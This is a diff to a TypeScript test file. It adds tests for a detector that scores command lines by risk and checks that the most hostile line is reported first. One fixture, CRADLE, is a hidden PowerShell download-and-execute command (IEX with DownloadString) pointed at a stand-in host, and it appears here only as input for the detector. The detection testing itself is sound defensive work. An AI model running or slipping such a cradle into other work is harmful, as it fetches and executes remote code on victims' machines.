@@ -4,11 +4,13 @@
  * Elsewhere: the rules of extraction, signatures and case numbers (domain/alerts/indicators); verification and search beside their files.
  */
 import { describe, expect, it } from 'vitest';
+import { asList, isObject } from '../../../core/base/json.ts';
 import type { Evidence } from '../../../core/engine/events.ts';
 import { asText } from '../arguments.ts';
 import { extractIndicators } from '../builtins/extract-indicators.ts';
 import { runRow } from '../fixture.ts';
 import { chooseBlockTargets } from './choose-block-targets.ts';
+import { commandLineAnalysis } from './command-line-analysis.ts';
 import { msiexecSources } from './msiexec-sources.ts';
 import { normalizeSignature } from './normalize-signature.ts';
 import { openReview } from './open-review.ts';
@@ -58,6 +60,40 @@ describe('MsiexecSources', () => {
       },
     });
     expect((await runRow(msiexecSources, { command_line: 'msiexec /i C:\\a.msi' })).set).toEqual({ MsiSource: {} });
+  });
+});
+
+describe('CommandLineAnalysis', () => {
+  const CRADLE = `powershell -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://pkg.example.net/a')"`;
+  const PLAIN = '"C:\\Windows\\explorer.exe"';
+
+  it('writes one object for one line and explains itself', async () => {
+    const { set: written, evidence } = await runRow(commandLineAnalysis, { command_line: PLAIN });
+    expect(written).toMatchObject({
+      CommandLineAnalysis: { original_command: PLAIN, risk: 'Low Risk', score: 0, findings: [] },
+    });
+    expect(evidence).toMatchObject([
+      { label: 'CGO command line', value: `Low Risk, score 0: nothing found · ${PLAIN}` },
+    ]);
+  });
+
+  it('analyses each line by itself, the worst first', async () => {
+    const outcome = await runRow(commandLineAnalysis, { command_line: [PLAIN, CRADLE, ''] });
+    const rows = asList(outcome.set?.['CommandLineAnalysis']);
+    expect(rows).toMatchObject([{ original_command: CRADLE }, { original_command: PLAIN, risk: 'Low Risk' }]);
+    expect(['High Risk', 'Critical Risk']).toContain(isObject(rows[0]) ? rows[0]['risk'] : undefined);
+    expect(outcome.evidence?.[0]?.value).toContain('the worst of 2 lines');
+  });
+
+  it('splits no pattern at its commas, and warns about one that is none', async () => {
+    const args = { command_line: 'prog aaaa', custom_patterns: ['a{1,4}', '('] };
+    const { set: written, entries } = await runRow(commandLineAnalysis, args);
+    expect(written).toMatchObject({ CommandLineAnalysis: { findings: [expect.stringContaining('custom')] } });
+    expect(entries[1]).toMatchObject({ type: 'warning', code: 'commandline.partial' });
+  });
+
+  it('writes nothing without a line', async () => {
+    expect((await runRow(commandLineAnalysis, { command_line: '' })).set).toBeUndefined();
   });
 });
 
